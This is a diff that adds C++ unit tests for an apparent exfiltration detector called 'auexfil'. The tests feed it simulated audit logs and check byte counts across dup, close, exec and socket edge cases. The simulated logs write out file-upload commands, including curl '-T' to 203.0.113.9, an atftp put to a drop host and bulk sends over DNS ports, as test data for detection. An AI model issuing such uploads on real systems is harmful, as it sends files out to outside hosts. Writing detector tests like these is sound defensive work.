@@ -1,0 +1,169 @@
+#include "host_with_cron.hpp"
+
+/// Single lines of host and transfer that no other test would miss: each case goes red when one of
+/// them is changed (a flag not looked at, an errno taken for another, a bound left out).
+namespace auexfil::test {
+namespace {
+
+constexpr std::int64_t kMega = 1'000'000;
+
+/// A curl of cron's, connected on 3.
+int curl(CronHost& log) {
+  const int pid = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
+  log.tcp(pid, 3, kDrop, 443);
+  return pid;
+}
+
+std::uint64_t sent_to(const Log& log, const char* address) {
+  std::uint64_t bytes = 0;
+  for (const transfer::Fact& fact : tell(log)) {
+    const transfer::Destination* const to = destination(fact, address);
+    bytes += to != nullptr ? to->bytes_out.value_or(0) : 0;
+  }
+  return bytes;
+}
+
+}  // namespace
+
+TEST_CASE("read: one that failed brings nothing") {
+  CronHost log;
+  const int pid = curl(log);
+  log.write(pid, 3, 50'000);
+  log.read(pid, 3, 100);
+  log.read(pid, 3, -11);
+  log.read(pid, 3, 0);
+  log.done(pid);
+  const transfer::Fact fact = one(log);
+  CHECK(fact.bytes_in == 100U);
+  CHECK(fact.bytes_out == 50'000U);
+}
+
+TEST_CASE("recvmmsg: its exit counts messages, not bytes") {
+  CronHost log;
+  const int pid = curl(log);
+  log.write(pid, 3, 50'000);
+  log.read(pid, 3, 100);
+  log.call(pid, "recvmmsg", 7, {3, 0x7f, 8});
+  log.done(pid);
+  CHECK(one(log).bytes_in == 100U);
+}
+
+TEST_CASE("a datagram that another peer sent is not the last one's") {
+  CronHost log;
+  const int pid = log.tool("/usr/bin/atftp", {"atftp", "-p", "-l", "f", kDrop});
+  log.udp(pid, 3);
+  log.sendto(pid, 3, 50'000, "203.0.113.8", 4000);
+  log.sendto(pid, 3, 60'000, kDrop, 4001);
+  log.call(pid, "recvfrom", 333, {3, 0x7f, 600}, {"SOCKADDR saddr=" + saddr("203.0.113.8", 4000)});
+  log.done(pid);
+  const transfer::Fact fact = one(log);
+  REQUIRE(destination(fact, "203.0.113.8") != nullptr);
+  CHECK(destination(fact, "203.0.113.8")->bytes_in == 333U);
+  CHECK(destination(fact, kDrop)->bytes_in.value_or(0) == 0U);
+}
+
+TEST_CASE("bulk over the port of a lookup is a transfer, lookups are none") {
+  const int port = GENERATE(53, 853);
+  CronHost log;
+  const int pid = log.tool("/usr/bin/python3", {"python3", "up.py"});
+  log.tcp(pid, 3, kDrop, port);
+  const bool bulk = GENERATE(true, false);
+  log.write(pid, 3, bulk ? 500 * kMega : 900);
+  log.done(pid);
+  CHECK(sent_to(log, kDrop) == (bulk ? 500U * kMega : 0U));
+}
+
+TEST_CASE("dup2 and dup3 put another file in a socket's place") {
+  CronHost log;
+  const int pid = curl(log);
+  log.write(pid, 3, 5000);
+  SECTION("one whose opening is not in the log") {
+    log.dup2(pid, 7, 3);
+  }
+  SECTION("one that is known") {
+    log.open(pid, 7, "/var/log/x");
+    log.call(pid, "dup3", 3, {7, 3, 0});
+  }
+  log.write(pid, 3, 90'000'000);
+  CHECK(sent_to(log, kDrop) == 5000);
+}
+
+TEST_CASE("dup3: O_CLOEXEC closes the copy at exec") {
+  const bool flag = GENERATE(true, false);
+  CronHost log;
+  const int pid = curl(log);
+  log.call(pid, "dup3", 10, {3, 10, flag ? 0x80000U : 0U});
+  log.close(pid, 3);
+  log.write(pid, 10, 5000);
+  log.exec(pid, "/usr/bin/cat", {"cat"});
+  log.write(pid, 10, 90'000);
+  CHECK(sent_to(log, kDrop) == (flag ? 5000U : 95'000U));
+}
+
+TEST_CASE("accept4: SOCK_CLOEXEC closes the connection at exec") {
+  const bool flag = GENERATE(true, false);
+  CronHost log;
+  const int pid = log.daemon(700, "/usr/sbin/served");
+  log.socket(pid, 3);
+  log.bind(pid, 3, "0.0.0.0", 7000);
+  log.listen(pid, 3);
+  log.call(pid, "accept4", 4, {3, 0x7f, 0x7f, flag ? 0x80000U : 0U},
+           {"SOCKADDR saddr=" + saddr(kDrop, 40'000)});
+  log.write(pid, 4, 5000);
+  log.exec(pid, "/usr/bin/cat", {"cat"});
+  log.write(pid, 4, 90'000);
+  CHECK(sent_to(log, kDrop) == (flag ? 5000U : 95'000U));
+}
+
+TEST_CASE("close: the number is free after EINTR and EIO, not after EBADF") {
+  struct Case {
+    int exit;
+    std::uint64_t sent;
+  };
+  const auto c = GENERATE(values<Case>({{0, 5000}, {-4, 5000}, {-5, 5000}, {-9, 95'000}}));
+  CAPTURE(c.exit);
+  CronHost log;
+  const int pid = curl(log);
+  log.write(pid, 3, 5000);
+  log.call(pid, "close", c.exit, {3});
+  log.write(pid, 3, 90'000);
+  CHECK(sent_to(log, kDrop) == c.sent);
+}
+
+TEST_CASE("what a process connected last is not the next program's") {
+  CronHost log;
+  log.arch = kI386;
+  const int pid = log.tool("/usr/bin/up32", {"up32"});
+  log.call(pid, "socketcall", 3, {1, 0xff, 0});
+  log.call(pid, "socketcall", 0, {3, 0xff, 0}, {"SOCKADDR saddr=" + saddr(kDrop, 9000)});
+  SECTION("its execve is in the log") {
+    log.exec(pid, "/usr/bin/other32", {"other32"});
+  }
+  SECTION("its execve was lost") {
+    log.who(pid).exe = "/usr/bin/other32";
+    log.who(pid).comm = "other32";
+    log.socket(pid, 9);  // here it is noticed
+  }
+  log.call(pid, "socketcall", 120 * kMega, {9, 0xff, 0});
+  CHECK(sent_to(log, kDrop) == 0);
+}
+
+TEST_CASE("a connection of the program before is not what an exec's next one gives away") {
+  CronHost log;
+  const bool execs = GENERATE(true, false);
+  const int pid = curl(log);
+  if (execs) {
+    log.exec(pid, "/usr/bin/next", {"next"});
+  }
+  log.call(pid, "sendmsg", 1, {9, 0x7f, 0});
+  log.done(pid);
+  bool is_noted = false;
+  for (const transfer::Fact& fact : tell(log)) {
+    for (const std::string& note : fact.notes) {
+      is_noted = is_noted || note.find("may have been passed") != std::string::npos;
+    }
+  }
+  CHECK(is_noted != execs);
+}
+
+}  // namespace auexfil::test
